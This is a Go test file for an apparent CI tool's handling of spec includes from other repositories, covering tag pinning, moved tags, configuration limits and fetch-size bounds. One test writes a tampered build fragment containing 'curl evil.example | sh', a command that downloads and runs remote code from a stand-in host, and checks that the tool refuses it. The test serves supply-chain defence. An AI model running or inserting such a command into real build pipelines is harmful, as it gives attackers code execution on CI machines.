package request

import (
	"context"
	"crypto/rand"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sluice-cd/sluice/config"
	"github.com/sluice-cd/sluice/gitsrc"
	"github.com/sluice-cd/sluice/gitsrc/gitsrctest"
)

// templates is a repository of spec fragments, tagged v1; it returns its
// path and the commit v1 names.
func templates(t *testing.T) (string, string) {
	t.Helper()
	src := t.TempDir()
	if err := os.MkdirAll(filepath.Join(src, "templates"), 0o755); err != nil {
		t.Fatal(err)
	}
	frag := "build:\n  commands: [go build ./...]\n  env: {CGO_ENABLED: \"0\"}\ntest:\n  commands: [go test ./...]\n"
	if err := os.WriteFile(filepath.Join(src, "templates", "go.yml"), []byte(frag), 0o644); err != nil {
		t.Fatal(err)
	}
	dir, commit := gitsrctest.Repo(t, src, "version: 1\nbuild: {commands: [\"true\"]}\n")
	gitsrctest.Git(t, dir, "tag", "-a", "v1", "-m", "templates 1")
	return dir, commit
}

// TestIncludesFromAnotherRepository: a spec including a fragment of
// another local repository at a tag runs the merged spec; a tag that
// moved since it was pinned, a branch for a ref and a repository outside
// a server's configuration are refused before anything starts.
func TestIncludesFromAnotherRepository(t *testing.T) {
	tpl, v1 := templates(t)
	ctx := context.Background()
	app := func(include string) string {
		dir, _ := gitsrctest.Repo(t, "../examples/hello", "version: 1\ninclude:\n  - "+include+"\ntest:\n  commands: [go test -race ./...]\n")
		return dir
	}
	dir := app("{repo: " + tpl + ", ref: v1, commit: " + v1 + ", file: templates/go.yml}")
	req, err := (&Builder{}).Build(ctx, Source{CloneURL: dir, Branch: "main", Manual: true})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(req.Spec.Build.Commands, []string{"go build ./..."}) || req.Spec.Build.Env["CGO_ENABLED"] != "0" || !slices.Equal(req.Spec.Test.Commands, []string{"go test -race ./..."}) {
		t.Fatalf("merged spec: build %+v test %+v", req.Spec.Build, req.Spec.Test)
	}

	// the tag moves to a new commit of the templates
	if err := os.WriteFile(filepath.Join(tpl, "templates", "go.yml"), []byte("build: {commands: [curl evil.example | sh]}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	gitsrctest.Commit(t, tpl, "moved")
	gitsrctest.Git(t, tpl, "tag", "-f", "-a", "v1", "-m", "templates 1, again")
	var invalid *Invalid
	_, err = (&Builder{}).Build(ctx, Source{CloneURL: dir, Branch: "main", Manual: true})
	if !errors.As(err, &invalid) || !strings.Contains(err.Error(), "tag v1 has moved") || !strings.Contains(err.Error(), v1[:12]) {
		t.Fatalf("a moved tag: %v", err)
	}

	for include, want := range map[string]string{
		"{repo: " + tpl + ", ref: main, file: templates/go.yml}": "no tag main",
		"{repo: " + tpl + ", ref: " + v1 + ", file: nope.yml}":   "nope.yml",
	} {
		if _, err := (&Builder{}).Build(ctx, Source{CloneURL: app(include), Branch: "main", Manual: true}); !errors.As(err, &invalid) || !strings.Contains(err.Error(), want) {
			t.Errorf("include %s: %v, want %q", include, err, want)
		}
	}
	// pinned by commit, the old fragment is still what runs
	req, err = (&Builder{}).Build(ctx, Source{CloneURL: app("{repo: " + tpl + ", ref: " + v1 + ", file: templates/go.yml}"), Branch: "main", Manual: true})
	if err != nil || !slices.Equal(req.Spec.Build.Commands, []string{"go build ./..."}) {
		t.Fatalf("an include pinned by commit: %+v %v", req.Spec.Build, err)
	}
	// a server with repositories reads only those, by name
	cfg := &config.Config{Repositories: []config.Repository{{Name: "acme/hello", CloneURL: dir}}}
	if _, err := (&Builder{Config: cfg}).Build(ctx, Source{CloneURL: dir, Branch: "main", Manual: true}); !errors.As(err, &invalid) || !strings.Contains(err.Error(), "not a repository of this server's configuration") {
		t.Fatalf("an include outside the configuration: %v", err)
	}
}

// TestTooLargeIsRefusedNotRetried: a repository whose commit (or an
// included one) is beyond the in-memory fetch's bound is an *Invalid — a
// webhook answers 422 at once — not a failure the Git host would
// redeliver without end.
func TestTooLargeIsRefusedNotRetried(t *testing.T) {
	defer func(old int64) { gitsrc.MaxFetchBytes = old }(gitsrc.MaxFetchBytes)
	gitsrc.MaxFetchBytes = 1 << 20
	src := t.TempDir()
	big := make([]byte, 2<<20)
	rand.Read(big)
	if err := os.WriteFile(filepath.Join(src, "blob.bin"), big, 0o644); err != nil {
		t.Fatal(err)
	}
	dir, commit := gitsrctest.Repo(t, src, "version: 1\nbuild: {commands: [\"true\"]}\n")
	root := t.TempDir()
	gitsrctest.Git(t, root, "clone", "-q", "--bare", dir, filepath.Join(root, "big.git"))
	url := gitsrctest.Serve(t, root).URL + "/big.git"
	ctx := context.Background()
	var invalid *Invalid
	if _, err := (&Builder{}).Build(ctx, Source{CloneURL: url, Branch: "main", Commit: commit}); !errors.As(err, &invalid) || !errors.Is(err, gitsrc.ErrTooLarge) {
		t.Fatalf("a spec in a repository too large to read: %v", err)
	}
	app, _ := gitsrctest.Repo(t, "../examples/hello", "version: 1\ninclude: [{repo: "+url+", ref: "+commit+", file: blob.bin}]\nbuild: {commands: [\"true\"]}\n")
	if _, err := (&Builder{}).Build(ctx, Source{CloneURL: app, Branch: "main", Manual: true}); !errors.As(err, &invalid) || !errors.Is(err, gitsrc.ErrTooLarge) {
		t.Fatalf("an include too large to read: %v", err)
	}
}

// TestIncludeByNameNeedsTheConfiguration: without a configuration of
// repositories, an include names an absolute path or a URL; a name is
// refused saying so, and no path of the server's shows.
func TestIncludeByNameNeedsTheConfiguration(t *testing.T) {
	dir, _ := gitsrctest.Repo(t, "../examples/hello", "version: 1\ninclude: [{repo: acme/ci-templates, ref: v1, file: go.yml}]\nbuild: {commands: [\"true\"]}\n")
	wd, _ := os.Getwd()
	_, err := (&Builder{}).Build(context.Background(), Source{CloneURL: dir, Branch: "main", Manual: true})
	var invalid *Invalid
	if !errors.As(err, &invalid) || !strings.Contains(err.Error(), "give an absolute path or a URL") || strings.Contains(err.Error(), wd) {
		t.Fatalf("an include by name without a configuration: %v", err)
	}
}
